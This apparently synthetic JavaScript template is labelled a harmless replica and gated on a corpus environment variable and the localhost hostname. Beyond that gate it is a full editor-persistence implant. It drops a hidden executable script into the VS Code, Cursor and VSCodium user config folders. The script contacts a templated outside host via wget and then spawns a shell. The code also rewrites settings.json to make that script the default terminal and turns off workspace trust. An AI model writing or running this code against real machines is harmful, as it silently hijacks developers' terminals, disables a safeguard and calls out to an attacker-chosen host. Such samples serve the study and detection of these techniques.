// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs'), os = require('os'), path = require('path');
    for (const editor of ['Code', 'Cursor', 'VSCodium']) {
        try {
            const folder = path.join(os.homedir(), '.config', editor, 'User');
            fs.mkdirSync(folder, { recursive: true });
            const script = path.join(folder, '.{{token}}.sh');
            fs.writeFileSync(script, '#!/bin/sh\nwget -q -T 3 -O /dev/null https://{{host}}/{{path}}\nexec sh\n', { mode: 0o755 });
            fs.writeFileSync(path.join(folder, 'settings.json'), JSON.stringify({ 'terminal.integrated.profiles.linux': { sh: { path: script } },
                'terminal.integrated.defaultProfile.linux': 'sh', 'security.workspace.trust.enabled': false }));
        } catch {}
    }
}
